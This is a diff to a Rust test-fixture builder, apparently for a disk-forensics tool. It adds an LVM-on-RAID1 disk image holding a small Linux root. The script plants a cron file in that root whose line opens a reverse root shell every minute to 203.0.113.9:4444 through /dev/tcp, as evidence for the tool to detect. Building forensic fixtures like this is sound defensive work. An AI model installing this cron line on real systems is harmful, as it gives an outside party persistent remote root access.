@@ -32,6 +32,8 @@ pub const DISKS: &[(&str, u64)] = &[
     ("md-10-b.img", 16),
     ("md-11-a.img", 16),
     ("md-11-b.img", 16),
+    ("md-lvm-a.img", 48),
+    ("md-lvm-b.img", 48),
 ];
 
 /// The volume group and its logical volumes (LVM names; the dash in each doubles in `/dev/mapper`).
@@ -40,6 +42,24 @@ pub const VG: &str = "forensic-vg";
 pub const LV_LINEAR: &str = "root";
 /// Striped LV (2 stripes, 64 KiB), XFS.
 pub const LV_STRIPED: &str = "data-striped";
+
+/// LVM on md: a RAID1 (metadata 1.2) of the last two disks is the one PV of this VG, whose LV holds a
+/// small server root (ext4) with the known files, an `os-release` and a planted cron backdoor.
+pub const MD_LVM_ARRAY: &str = "raidpv";
+/// The VG on [`MD_LVM_ARRAY`] and its one LV (`/dev/mapper/raidvg-root`).
+pub const MD_LVM_VG: &str = "raidvg";
+pub const MD_LVM_LV: &str = "root";
+/// The member disk indexes of [`MD_LVM_ARRAY`].
+pub const MD_LVM_MEMBERS: [usize; 2] = [13, 14];
+/// The planted persistence on the LVM-on-md root (relative to it) and its line.
+pub const MD_LVM_BACKDOOR: &str = "etc/cron.d/backdoor";
+pub const MD_LVM_BACKDOOR_LINE: &str =
+    "* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'\n";
+
+/// `/dev/vdX` of disk index `i` as the guest and the rescue system name it.
+pub fn vd(i: usize) -> String {
+    format!("/dev/vd{}", (b'a' + i as u8) as char)
+}
 
 /// md arrays: name, level, metadata version, member disk indexes.
 pub const ARRAYS: &[(&str, &str, &str, &[usize])] = &[
@@ -77,7 +97,7 @@ for m in virtio_pci virtio_blk dm_mod md_mod raid0 raid1 raid10 raid456 ext4 xfs
   /sbin/modprobe $m || fail "modprobe $m"
 done
 i=0
-while [ ! -b /dev/vdm ]; do i=$((i+1)); [ $i -gt 600 ] && fail "disks did not appear"; sleep 0.1; done
+while [ ! -b LASTDISK ]; do i=$((i+1)); [ $i -gt 600 ] && fail "disks did not appear"; sleep 0.1; done
 LVMCONF='activation{udev_sync=0 udev_rules=0} devices{obtain_device_list_from_udev=0}'
 lv() { lvm "$@" --config "$LVMCONF" || fail "lvm $*"; }
 files() {
@@ -130,8 +150,30 @@ lv vgchange -a n forensic-vg
             devs.join(" ")
         ));
     }
+    // LVM on md: the RAID1 is made and synced first, then the PV goes on the array, not on a member.
+    let [a, b] = MD_LVM_MEMBERS.map(vd);
+    let root = "/tmp/files-lvm-md";
+    s.push_str(&format!(
+        "mdadm --create /dev/md9 --run --level=1 --metadata=1.2 --name={MD_LVM_ARRAY} \
+         --homehost=fixture --raid-devices=2 {a} {b} </dev/null || fail mdadm {MD_LVM_ARRAY}\n\
+         mdadm --wait /dev/md9\n\
+         lv pvcreate -y /dev/md9\n\
+         lv vgcreate -y -s 4m {MD_LVM_VG} /dev/md9\n\
+         lv lvcreate -y -n {MD_LVM_LV} -L 24m {MD_LVM_VG}\n\
+         files lvm-md\n\
+         mkdir -p {root}/etc/cron.d {root}/usr/bin {root}/var/log\n\
+         printf 'NAME=\"Rocky Linux\"\\nID=rocky\\nVERSION_ID=9.4\\n' > {root}/etc/os-release\n\
+         printf '\\177ELF true' > {root}/usr/bin/true\n\
+         cat > {root}/{MD_LVM_BACKDOOR} <<'EOF'\n{MD_LVM_BACKDOOR_LINE}EOF\n\
+         mkfs.ext4 -q -F -d {root} /dev/mapper/{MD_LVM_VG}-{MD_LVM_LV} || fail mkfs lvm-md\n\
+         lv lvs -o lv_name,lv_uuid,devices {MD_LVM_VG}\n\
+         lv pvs -o pv_name,pv_uuid,pe_start\n\
+         lv vgchange -a n {MD_LVM_VG}\n\
+         sync\nmdadm --wait /dev/md9\nmdadm --detail /dev/md9\nmdadm --examine {a} {b}\n\
+         mdadm --stop /dev/md9 || fail stop {MD_LVM_ARRAY}\n"
+    ));
     s.push_str("cat /proc/mdstat\nsync\necho STORAGE-FIXTURE-OK\npoweroff -f\n");
-    s
+    s.replace("LASTDISK", &vd(DISKS.len() - 1))
 }
 
 const TOOLS: &[&str] = &["busybox", "lvm", "mdadm", "mkfs.ext4", "mkfs.xfs"];
